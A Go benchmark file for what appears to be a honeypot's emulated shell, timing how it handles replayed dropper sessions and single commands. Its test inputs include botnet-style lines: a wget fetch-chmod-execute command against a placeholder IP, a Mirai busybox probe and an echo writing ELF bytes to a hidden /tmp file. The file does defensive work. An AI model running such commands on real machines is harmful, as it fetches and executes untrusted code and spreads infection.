package shell

import (
	"io"
	"path/filepath"
	"testing"
	"time"

	"forager/pots/persona"
)

// BenchmarkLines types everything that the droppers type, a session each: the
// figure is per line.
func BenchmarkLines(b *testing.B) {
	paths, err := filepath.Glob("testdata/droppers/*.txt")
	if err != nil {
		b.Fatal(err)
	}
	type session struct {
		p     *persona.Persona
		lines [][]byte
	}
	var list []session
	total := 0
	for _, path := range paths {
		d := readDropper(b, path)
		tm, err := persona.Load(d.persona, "")
		if err != nil {
			b.Fatal(err)
		}
		s := session{p: tm.For(1)}
		for _, l := range d.lines {
			s.lines = append(s.lines, []byte(l))
		}
		total += len(s.lines)
		list = append(list, s)
	}
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		for _, l := range list {
			s := New(Config{Persona: l.p, Event: func(string, ...Field) {}})
			for _, line := range l.lines {
				s.Run(line, io.Discard)
			}
			s.Close()
		}
		n += total
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(n), "ns/line")
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkLine is one line each.
func BenchmarkLine(b *testing.B) {
	tm, err := persona.Load("router", "")
	if err != nil {
		b.Fatal(err)
	}
	for name, line := range map[string]string{
		"applet":  "/bin/busybox MIRAI",
		"echo":    `echo -ne '\x7f\x45\x4c\x46\x01\x02\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00' > /tmp/.d`,
		"wget":    "cd /tmp || cd /var/run; wget http://198.51.100.1/x; chmod 777 x; ./x",
		"uname":   "uname -a",
		"cpuinfo": "cat /proc/cpuinfo | grep -c processor",
		"ps":      "ps | grep '[Mm]iner'",
		"loop":    "for i in a b c; do echo $i; done",
	} {
		b.Run(name, func(b *testing.B) {
			s := New(Config{Persona: tm.For(1), Event: func(string, ...Field) {}, Now: func() time.Time { return noon }})
			text := []byte(line)
			b.ReportAllocs()
			for b.Loop() {
				s.Run(text, io.Discard)
			}
		})
	}
}
